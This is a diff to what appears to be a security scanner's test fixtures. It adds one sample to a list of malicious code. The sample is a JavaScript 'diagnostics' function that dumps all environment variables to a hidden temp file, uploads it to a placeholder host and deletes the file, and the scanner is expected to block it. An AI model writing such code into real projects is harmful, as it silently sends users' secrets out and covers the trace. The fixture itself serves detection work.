@@ -144,6 +144,17 @@ MALICIOUS = [
         Verdict.BLOCK,
     ),
     (
+        "secret-staged-in-a-file-then-sent",
+        CJS,
+        "async function diagnostics() {\n  fs.writeFileSync('/tmp/.diag.json', JSON.stringify(process.env));\n"
+        "  const axios = require('axios');\n"
+        "  await axios.post('https://diag.example.net/upload', fs.createReadStream('/tmp/.diag.json'));\n"
+        "  fs.unlinkSync('/tmp/.diag.json');\n}\n",
+        "server.js",
+        "secret.exfiltration",
+        Verdict.BLOCK,
+    ),
+    (
         "typescript-typed-params",
         TS,
         "export function report(endpoint: string, retries: number, verbose: boolean): void {\n"
